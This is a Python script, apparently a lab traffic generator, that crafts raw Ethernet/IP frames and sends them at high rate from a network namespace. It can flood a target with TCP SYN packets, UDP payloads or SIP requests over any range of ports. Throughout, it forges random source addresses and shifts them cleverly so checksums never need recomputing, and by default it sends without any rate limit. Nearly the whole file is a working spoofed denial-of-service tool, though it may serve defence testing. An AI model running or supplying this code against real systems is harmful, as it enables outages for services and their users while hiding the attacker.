#!/usr/bin/env python3
"""Sends packets made by hand, many at a time, from the namespace it runs in; prints what it sent as JSON.

    flood.py --mac MAC --to ADDR --port LIST|all|random [--source ADDR|random] [--udp BYTES] [--flags N]
             [--rate N] [--seconds N] [--rounds N] [--shuffle] [--each] [--sip METHOD] [--via PORT] [--sources N]

LIST is sent in its order, `all` is 1 to 65535 (in any order with --shuffle, another in each round). A `random`
source is a new one for each packet (some repeat after a hundred million); with --each, for each round of the
ports. With --sources so many are made up, and come again and again. --sip sends requests of SIP over UDP, each of
another user; --via names the port to which the answer shall go. Without --rounds it goes on until --seconds are over, or SIGINT. Checksums are right.
"""

import argparse
import ctypes
import json
import os
import random
import signal
import socket
import struct
import subprocess
import time

from packet import checksum

LIBC = ctypes.CDLL(None, use_errno=True)
AT_ONCE = 512
# The upper halves of made-up addresses: nobody in the lab has such a one.
FIRST, LAST = 0x0B00, 0x7EFF


def arguments():
    parser = argparse.ArgumentParser()
    for name in ("mac", "to", "port"):
        parser.add_argument(f"--{name}", required=True)
    parser.add_argument("--source", default="random")
    parser.add_argument("--udp", type=int)
    parser.add_argument("--flags", type=int, default=2)
    parser.add_argument("--rate", type=float, default=float("inf"))
    parser.add_argument("--seconds", type=float, default=float("inf"))
    parser.add_argument("--rounds", type=int, default=0)
    parser.add_argument("--shuffle", action="store_true")
    parser.add_argument("--each", action="store_true")
    parser.add_argument("--sip")
    parser.add_argument("--via", type=int)
    parser.add_argument("--sources", type=int, default=0)
    return parser.parse_args()


class Packets:
    """Frames to one server."""

    def __init__(self, args):
        link = json.loads(subprocess.run(["ip", "-j", "link", "show", "eth0"], capture_output=True, check=True).stdout)
        mac = lambda text: bytes.fromhex(text.replace(":", ""))
        self.ether = mac(args.mac) + mac(link[0]["address"]) + b"\x08\x00"
        self.to, self.flags, self.udp = socket.inet_aton(args.to), args.flags, args.udp
        self.sip, self.via, self.host = args.sip, args.via, args.to
        self.sent = random.getrandbits(20)

    def source(self):
        """One address after the other, in no order."""
        self.sent += 1
        return struct.pack(">I", (FIRST << 16) + self.sent * 0x9E3779B1 % ((LAST + 1 - FIRST) << 16))

    def request(self, source):
        """A request of SIP (RFC 3261), of the same length for every source."""
        letters = lambda count: "".join(random.choices("0123456789abcdef", k=count))
        address = socket.inet_ntoa(source)
        via = f"{address}:{self.via}" if self.via else f"{address};rport"
        user = random.randrange(1000, 10000)
        lines = [f"{self.sip} sip:{self.host} SIP/2.0", f"Via: SIP/2.0/UDP {via};branch=z9hG4bK{letters(12)}",
                 f"From: <sip:{user}@{self.host}>;tag={letters(8)}", f"To: <sip:{user}@{self.host}>",
                 f"Call-ID: {letters(16)}", f"CSeq: 1 {self.sip}", f"Contact: <sip:{user}@{address}:5060>",
                 "Max-Forwards: 70", "Expires: 60", "Content-Length: 0"]  # fmt: skip
        text = "\r\n".join(lines)
        return (text + "\r\nSubject: " + "x" * (500 - len(text)) + "\r\n\r\n").encode()

    def frame(self, source, port):
        if self.sip:
            data = self.request(source)
            head = struct.pack(">HHHH", random.randrange(1024, 65536), port, 8 + len(data), 0) + data
            kind, place = 17, 6
        elif self.udp is None:
            head = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x50,
                               self.flags, 64240, 0, 0)  # fmt: skip
            kind, place = 6, 16
        else:
            letters = random.choices(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", k=self.udp)
            head = struct.pack(">HHHH", random.randrange(1024, 65536), port, 8 + self.udp, 0) + bytes(letters)
            kind, place = 17, 6
        pseudo = source + self.to + struct.pack(">BBH", 0, kind, len(head))
        head = head[:place] + struct.pack(">H", checksum(pseudo + head)) + head[place + 2 :]
        top = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(head), random.getrandbits(16), 0, 64, kind, 0, source, self.to)
        top = top[:10] + struct.pack(">H", checksum(top)) + top[12:]
        return self.ether + top + head


class Batch:
    """Frames of one length that are sent by few calls, again and again."""

    def __init__(self, frames):
        self.count, self.length = len(frames), len(frames[0])
        self.bytes = bytearray(b"".join(frames))
        here = ctypes.addressof(ctypes.c_char.from_buffer(self.bytes))
        vectors = b"".join(struct.pack("QQ", here + n * self.length, self.length) for n in range(self.count))
        self.vectors = ctypes.create_string_buffer(vectors, len(vectors))
        at = ctypes.addressof(self.vectors)
        # struct mmsghdr: name, its length, vectors, how many, control, its length, flags; what was sent.
        heads = b"".join(struct.pack("QIxxxxQQQQIxxxxIxxxx", 0, 0, at + 16 * n, 1, 0, 0, 0, 0)[:64] for n in range(self.count))
        self.heads = ctypes.create_string_buffer(heads, len(heads))

    def order(self, places):
        """Puts the frames into another order."""
        at = ctypes.addressof(self.vectors)
        for n, place in enumerate(places):
            struct.pack_into("Q", self.heads, 64 * n + 16, at + 16 * place)

    def move(self):
        """Gives each frame another source. One half of the address goes up and the other down: no checksum changes."""
        for at in range(26, len(self.bytes), self.length):
            high, low = struct.unpack_from(">HH", self.bytes, at)
            up = high < LAST and low > 0
            # At the end of the way, back to its beginning: the sum stays.
            back = min(high - FIRST, 0xFFFF - low)
            high, low = (high + 1, low - 1) if up else (high - back, low + back)
            struct.pack_into(">HH", self.bytes, at, high, low)


def send(sock, batch, first, count):
    """Sends some frames of a batch; how many went."""
    done = LIBC.sendmmsg(sock.fileno(), ctypes.byref(batch.heads, 64 * first), count, 0)
    if done < 0:
        errno = ctypes.get_errno()
        if errno in (11, 105):  # EAGAIN, ENOBUFS
            return 0
        raise OSError(errno, os.strerror(errno))
    return done


def pour(sock, batch, pace, over):
    """Sends a batch once, no faster than pace; how many went."""
    at = 0
    while at < batch.count and not over():
        at += (done := send(sock, batch, at, min(AT_ONCE, pace.room(), batch.count - at)))
        pace.count(done)
    return at


class Pace:
    def __init__(self, rate):
        self.rate, self.begun, self.sent = rate, time.monotonic(), 0

    def room(self):
        """How many may go at once; waits until it is one at least."""
        if self.rate == float("inf"):
            return AT_ONCE
        while (room := int((time.monotonic() - self.begun) * self.rate) - self.sent) < 1:
            time.sleep(min(0.5 / self.rate, 0.002))
        return room

    def count(self, done):
        self.sent += done


def main():
    args = arguments()
    packets = Packets(args)
    ports = {"all": range(1, 65536), "random": random.sample(range(1, 65536), 8192)}.get(args.port)
    ports = list(ports or map(int, args.port.split(",")))
    spoofed, each = args.source == "random", args.each
    # A short list is repeated so that one call has enough to send.
    again = 1 if args.rounds or each else max(1, 4096 // len(ports))
    make = lambda: packets.source() if spoofed else socket.inet_aton(args.source)
    if args.sources:
        some = [make() for _ in range(args.sources)]
        frames = [packets.frame(source, port) for source in some for port in ports]
    elif each:
        again = args.rounds if args.rounds else 4096
        frames = [packets.frame(source, port) for source in (make() for _ in range(again)) for port in ports]
        args.rounds = min(args.rounds, 1)
    else:
        frames = [packets.frame(make(), port) for port in ports * again]
    batch = Batch(frames)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
    sock.bind(("eth0", 0))
    pace, rounds = Pace(args.rate), 0
    told = []
    signal.signal(signal.SIGINT, lambda *_: told.append(True))
    over = lambda: bool(told) or time.monotonic() - pace.begun >= args.seconds
    while not over() and (not args.rounds or rounds < args.rounds):
        if args.shuffle:
            batch.order(random.sample(range(batch.count), batch.count))
        pour(sock, batch, pace, over)
        rounds += 1
        if spoofed and not args.rounds and not args.sources:
            batch.move()
    span = time.monotonic() - pace.begun
    print(json.dumps({"sent": pace.sent, "seconds": span, "rate": pace.sent / span, "rounds": rounds}))


if __name__ == "__main__":
    main()
